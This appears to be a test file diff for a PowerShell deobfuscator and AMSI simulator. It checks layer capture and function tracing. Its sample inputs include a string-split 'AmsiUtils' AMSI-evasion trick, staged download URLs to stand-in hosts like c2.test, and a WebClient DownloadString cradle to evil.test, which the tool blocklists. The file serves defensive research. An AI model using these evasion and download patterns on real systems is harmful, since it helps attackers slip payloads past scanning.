@@ -1,0 +1,120 @@
+// Tests for the AMSI simulator (paper section V-B) and the function-tracing
+// extension (the paper's section V-C limitation, implemented behind a flag).
+
+#include <gtest/gtest.h>
+
+#include "core/deobfuscator.h"
+#include "obfuscator/obfuscator.h"
+#include "sandbox/amsi.h"
+
+namespace ideobf {
+namespace {
+
+TEST(Amsi, CapturesTopLevelBuffer) {
+  const AmsiCapture cap = amsi_scan("Write-Host hi");
+  ASSERT_GE(cap.buffers.size(), 1u);
+  EXPECT_EQ(cap.buffers[0], "Write-Host hi");
+  EXPECT_TRUE(cap.executed_ok);
+}
+
+TEST(Amsi, CapturesInvokedLayers) {
+  const AmsiCapture cap = amsi_scan("iex ('Write-'+'Host secret-cmd')");
+  EXPECT_TRUE(cap.sees("secret-cmd"));
+  EXPECT_GE(cap.buffers.size(), 2u);
+  EXPECT_EQ(cap.final_buffer(), "Write-Host secret-cmd");
+}
+
+TEST(Amsi, CapturesEncodedCommandLayers) {
+  Obfuscator obf(1);
+  const std::string wrapped = obf.wrap_layer(
+      "Write-Host amsi-enc-check", Technique::Base64Encoding,
+      Obfuscator::LayerStyle::EncodedCommand);
+  const AmsiCapture cap = amsi_scan(wrapped);
+  EXPECT_TRUE(cap.sees("amsi-enc-check")) << wrapped;
+}
+
+TEST(Amsi, MissesLatentPayloads) {
+  // The paper's bypass: a string that is deobfuscated in memory but never
+  // supplied to the engine is invisible to AMSI.
+  const AmsiCapture cap = amsi_scan("$u = 'Amsi'+'Utils'\nWrite-Host $u.Length");
+  EXPECT_FALSE(cap.sees("AmsiUtils"));
+  // ... but the host output DID use it, so the bypass is real, not a bug.
+  EXPECT_TRUE(cap.executed_ok);
+}
+
+TEST(Amsi, OursSeesLatentPayloads) {
+  InvokeDeobfuscator deobf;
+  const std::string out =
+      deobf.deobfuscate("$u = 'Amsi'+'Utils'\nWrite-Host $u.Length");
+  EXPECT_NE(out.find("AmsiUtils"), std::string::npos) << out;
+}
+
+TEST(Amsi, HandlesBrokenScripts) {
+  const AmsiCapture cap = amsi_scan("this is ( not a script");
+  EXPECT_FALSE(cap.executed_ok);
+}
+
+// ---------------------------------------------------------------- V-C
+
+TEST(FunctionTracing, OffByDefaultMatchesPaper) {
+  // The paper cannot follow function-wrapped recovery chains (section V-C);
+  // with the default options neither do we.
+  const std::string src =
+      "function Decode($s) { return ($s.Replace('Z','t')) }\n"
+      "Write-Host (Decode 'hZZp://x.Zest/a.ps1')";
+  InvokeDeobfuscator deobf;
+  const std::string out = deobf.deobfuscate(src);
+  EXPECT_EQ(out.find("http://x.test"), std::string::npos) << out;
+}
+
+TEST(FunctionTracing, FlagEnablesFunctionChains) {
+  const std::string src =
+      "function Decode($s) { return ($s.Replace('Z','t')) }\n"
+      "Write-Host (Decode 'hZZp://x.Zest/a.ps1')";
+  DeobfuscationOptions opts;
+  opts.trace_functions = true;
+  InvokeDeobfuscator deobf(opts);
+  const std::string out = deobf.deobfuscate(src);
+  EXPECT_NE(out.find("http://x.test/a.ps1"), std::string::npos) << out;
+}
+
+TEST(FunctionTracing, NestedFunctionCalls) {
+  const std::string src =
+      "function Inner($s) { return ($s + '.ps1') }\n"
+      "function Outer($s) { return (Inner ($s + '/stage')) }\n"
+      "$target = Outer 'http://c2.test'\n"
+      "Write-Host $target";
+  DeobfuscationOptions opts;
+  opts.trace_functions = true;
+  InvokeDeobfuscator deobf(opts);
+  const std::string out = deobf.deobfuscate(src);
+  EXPECT_NE(out.find("http://c2.test/stage.ps1"), std::string::npos) << out;
+}
+
+TEST(FunctionTracing, BlocklistStillApplies) {
+  const std::string src =
+      "function Fetch($u) { return ((New-Object Net.WebClient)."
+      "DownloadString($u)) }\n"
+      "Write-Host (Fetch 'http://evil.test/x')";
+  DeobfuscationOptions opts;
+  opts.trace_functions = true;
+  InvokeDeobfuscator deobf(opts);
+  const std::string out = deobf.deobfuscate(src);
+  // The network call is blocklisted: the piece must be kept, not executed.
+  EXPECT_NE(out.find("Fetch"), std::string::npos) << out;
+  EXPECT_EQ(out.find("payload:"), std::string::npos) << out;
+}
+
+TEST(FunctionTracing, ConditionallyDefinedFunctionsAreNotTraced) {
+  const std::string src =
+      "if ($true) { function Decode($s) { return ($s + 'x') } }\n"
+      "Write-Host (Decode 'marker-')";
+  DeobfuscationOptions opts;
+  opts.trace_functions = true;
+  InvokeDeobfuscator deobf(opts);
+  const std::string out = deobf.deobfuscate(src);
+  EXPECT_EQ(out.find("'marker-x'"), std::string::npos) << out;
+}
+
+}  // namespace
+}  // namespace ideobf
